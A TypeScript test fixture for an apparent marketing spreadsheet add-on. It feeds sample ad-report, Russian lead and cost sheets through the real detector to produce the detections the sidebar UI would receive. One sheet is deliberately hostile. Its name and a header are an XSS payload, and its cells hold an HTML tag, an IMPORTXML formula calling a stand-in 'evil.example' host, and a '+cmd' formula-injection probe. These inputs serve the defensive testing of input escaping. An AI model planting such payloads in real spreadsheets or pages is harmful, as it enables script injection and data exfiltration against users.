/**
 * Sheets as a marketer would have them, run through the real detector (core/mapping) in node so the page
 * sees the detections the server would send: an aggregated English ad report with a title and a totals
 * row, a Russian CRM lead export with statuses plus its costs sheet, a sheet whose header is an XSS
 * attempt, and one of our dashboards (which must not be offered).
 */
import type { Detection, SheetSummary, SidebarContext, UiLocale } from '../../src/api/contract.js';
import { detectSheet } from '../../src/core/mapping/index.js';
import type { ReportOptions } from '../../src/core/mapping/types.js';
import type { CellValue } from '../../src/core/values.js';

export const XSS = '<img src=x onerror=alert(1)>';

export const SHEETS: Readonly<Record<string, CellValue[][]>> = {
  'Ads report': [
    ['Marketing report 2026', '', '', '', '', '', ''],
    ['', '', '', '', '', '', ''],
    ['Month', 'Channel', 'Spend', 'Clicks', 'Leads', 'Customers', 'Revenue'],
    ['2026-01', 'Google Ads', '$1,200.50', 900, 40, 4, 8000],
    ['2026-01', 'Meta Ads', '$800.00', 700, 30, 2, 3000],
    ['2026-02', 'Google Ads', '$1,300.00', 950, 42, 5, 9000],
    ['2026-02', 'Meta Ads', '$750.00', 650, 25, 1, 1500],
    ['Total', '', '$4,050.50', 3200, 137, 12, 21500],
  ],
  Лиды: [
    ['ID', 'Дата создания', 'Источник', 'Статус', 'Сумма сделки'],
    [101, '2026-01-05', 'yandex', 'Новый', ''],
    [102, '2026-01-06', 'google', 'В работе', ''],
    [103, '2026-01-07', 'vk', 'Успешно реализовано', '1 234 500,00'],
    [104, '2026-01-08', 'yandex', 'Спам', ''],
    [105, '2026-01-09', 'yandex', 'Закрыто и не реализовано', ''],
    [106, '2026-02-01', 'google', 'Успешно реализовано', 50000],
    [107, '2026-02-03', 'telegram', 'Квалифицирован', ''],
    [108, '2026-02-04', 'yandex', 'Новый', ''],
  ],
  Расходы: [
    ['Месяц', 'Канал', 'Расход, ₽'],
    ['2026-01', 'yandex', '120 000'],
    ['2026-01', 'google', '80 000'],
    ['2026-02', 'yandex', '110 000'],
  ],
  [XSS]: [
    ['Date', XSS, 'Spend'],
    ['2026-01-01', '<b>bold</b>', 10],
    ['2026-01-02', '=IMPORTXML("http://evil.example","//a")', 20],
    ['2026-01-03', '+cmd', 30],
  ],
};

const DASHBOARD: SheetSummary = { sheetId: 99, name: 'FunnelROI dashboard', lastRow: 40, lastColumn: 12, isDashboard: true };

export function sheetSummaries(): SheetSummary[] {
  const names = Object.keys(SHEETS);
  return [
    ...names.map((name, i) => ({
      sheetId: 10 + i,
      name,
      lastRow: SHEETS[name].length,
      lastColumn: SHEETS[name][0].length,
      isDashboard: false,
    })),
    DASHBOARD,
  ];
}

/** What the server's detect(sheetName) would return: the detector's answer bound to the sheet. */
export function detections(locale: UiLocale): Record<string, Detection> {
  const out: Record<string, Detection> = {};
  for (const summary of sheetSummaries()) {
    const rows = SHEETS[summary.name];
    if (!rows) continue;
    const display = rows.map((row) => row.map((v) => (v === null || v === undefined ? '' : String(v))));
    out[summary.name] = detectSheet(rows, display, { sheetId: summary.sheetId, sheetName: summary.name, locale });
  }
  return out;
}

const DEFAULTS: Readonly<Record<UiLocale, ReportOptions>> = {
  en: { granularity: 'month', grossMargin: 1, currency: 'USD', dashboardName: 'FunnelROI dashboard', byCampaign: false },
  ru: { granularity: 'month', grossMargin: 1, currency: 'RUB', dashboardName: 'Дашборд FunnelROI', byCampaign: false },
  zh: { granularity: 'month', grossMargin: 1, currency: 'CNY', dashboardName: 'FunnelROI 仪表板', byCampaign: false },
};

export function context(locale: UiLocale, activeSheetName: string, extra: Partial<SidebarContext> = {}): SidebarContext {
  return { locale, activeSheetName, sheets: sheetSummaries(), saved: null, savedProblems: [], defaultOptions: DEFAULTS[locale], ...extra };
}
